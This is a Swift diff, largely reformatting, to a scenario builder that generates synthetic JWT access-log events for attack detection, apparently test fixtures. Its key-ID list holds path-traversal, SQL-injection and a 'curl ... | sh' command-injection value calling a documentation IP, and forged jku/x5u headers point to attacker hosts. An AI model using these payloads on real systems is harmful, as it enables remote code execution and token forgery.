@@ -7,8 +7,14 @@ extension ScenarioBuilder {
         let services = ["payments-api", "orders-api", "accounts-api", "partner-api", "reporting-api"]
         for (step, name) in services.enumerated() {
             var event = access(
-                at: at(Double(step) * 2), service: name, subject: subject, tokenID: tokenID(), address: address,
-                userAgent: Self.toolAgents[3], accepted: step == services.count - 1, reason: "alg_none"
+                at: at(Double(step) * 2),
+                service: name,
+                subject: subject,
+                tokenID: tokenID(),
+                address: address,
+                userAgent: Self.toolAgents[3],
+                accepted: step == services.count - 1,
+                reason: "alg_none"
             )
             event.algorithm = "none"
             event.keyID = nil
@@ -23,13 +29,18 @@ extension ScenarioBuilder {
         let subject = subject()
         let rejecting = ["payments-api", "orders-api", "accounts-api", "checkout-service", "partner-api", "files-api"]
         for step in 0..<24 {
-            // The acceptances come early, each after at most two rejections: the attack is
-            // alg_confusion alone, not also a guess that worked after many failures.
+            // The acceptances come among the first six, with at most three rejections before each: the
+            // attack is alg_confusion alone, not also a guess that worked after five failures.
             let accepted = step == 1 || step == 3 || step == 5
             var event = access(
-                at: at(Double(step) * 6), service: accepted ? "reporting-api" : rejecting[step % rejecting.count],
-                subject: subject, tokenID: tokenID(), address: address, userAgent: Self.toolAgents[3],
-                accepted: accepted, reason: "alg_not_allowed"
+                at: at(Double(step) * 6),
+                service: accepted ? "reporting-api" : rejecting[step % rejecting.count],
+                subject: subject,
+                tokenID: tokenID(),
+                address: address,
+                userAgent: Self.toolAgents[3],
+                accepted: accepted,
+                reason: "alg_not_allowed"
             )
             event.algorithm = "HS256"
             add(event)
@@ -46,8 +57,13 @@ extension ScenarioBuilder {
         ]
         for (step, kid) in guesses.enumerated() {
             var event = access(
-                at: at(Double(step) * 13), service: step % 2 == 0 ? "api-gateway" : "partner-api", subject: subject,
-                tokenID: tokenID(), address: address, userAgent: Self.toolAgents[0], accepted: false,
+                at: at(Double(step) * 13),
+                service: step % 2 == 0 ? "api-gateway" : "partner-api",
+                subject: subject,
+                tokenID: tokenID(),
+                address: address,
+                userAgent: Self.toolAgents[0],
+                accepted: false,
                 reason: "key_unknown"
             )
             event.keyID = kid
@@ -63,21 +79,39 @@ extension ScenarioBuilder {
         let kids = ["../../../../dev/null", "key' OR '1'='1", "k1; curl -s http://198.51.100.23/x | sh"]
         for (step, kid) in kids.enumerated() {
             var event = access(
-                at: at(Double(step) * 12), service: "accounts-api", subject: subject, tokenID: tokenID(),
-                address: address, userAgent: Self.toolAgents[3], accepted: false, reason: "key_unknown"
+                at: at(Double(step) * 12),
+                service: "accounts-api",
+                subject: subject,
+                tokenID: tokenID(),
+                address: address,
+                userAgent: Self.toolAgents[3],
+                accepted: false,
+                reason: "key_unknown"
             )
             event.keyID = kid
             add(event)
         }
         var jku = access(
-            at: at(40), service: "payments-api", subject: subject, tokenID: tokenID(), address: address,
-            userAgent: Self.toolAgents[3], accepted: false, reason: "bad_signature"
+            at: at(40),
+            service: "payments-api",
+            subject: subject,
+            tokenID: tokenID(),
+            address: address,
+            userAgent: Self.toolAgents[3],
+            accepted: false,
+            reason: "bad_signature"
         )
         jku.jwkSetURL = "https://jwks.attacker.example/.well-known/jwks.json"
         add(jku)
         var x5u = access(
-            at: at(52), service: "payments-api", subject: subject, tokenID: tokenID(), address: address,
-            userAgent: Self.toolAgents[3], accepted: false, reason: "bad_signature"
+            at: at(52),
+            service: "payments-api",
+            subject: subject,
+            tokenID: tokenID(),
+            address: address,
+            userAgent: Self.toolAgents[3],
+            accepted: false,
+            reason: "bad_signature"
         )
         x5u.x509URL = "http://198.51.100.23/cert.pem"
         add(x5u)
@@ -96,9 +130,14 @@ extension ScenarioBuilder {
         let services = ["payments-api", "orders-api", "accounts-api", "checkout-service"]
         for (step, kid) in guesses.enumerated() {
             var event = access(
-                at: at(20 + Double(step) * 10), service: services[step % services.count], subject: subject(),
-                tokenID: tokenID(), address: attacker(10 + step % 4), userAgent: Self.toolAgents[step % 3],
-                accepted: false, reason: "key_unknown"
+                at: at(20 + Double(step) * 10),
+                service: services[step % services.count],
+                subject: subject(),
+                tokenID: tokenID(),
+                address: attacker(10 + step % 4),
+                userAgent: Self.toolAgents[step % 3],
+                accepted: false,
+                reason: "key_unknown"
             )
             event.keyID = kid
             add(event)
@@ -110,8 +149,14 @@ extension ScenarioBuilder {
         ]
         for (step, (name, accepted)) in uses.enumerated() {
             var event = access(
-                at: at(150 + Double(step) * 9), service: name, subject: subject, tokenID: tokenID(),
-                address: attacker(14), userAgent: Self.toolAgents[0], accepted: accepted, reason: "key_unknown"
+                at: at(150 + Double(step) * 9),
+                service: name,
+                subject: subject,
+                tokenID: tokenID(),
+                address: attacker(14),
+                userAgent: Self.toolAgents[0],
+                accepted: accepted,
+                reason: "key_unknown"
             )
             event.keyID = AttackScenario.retiredKeyID
             add(event)
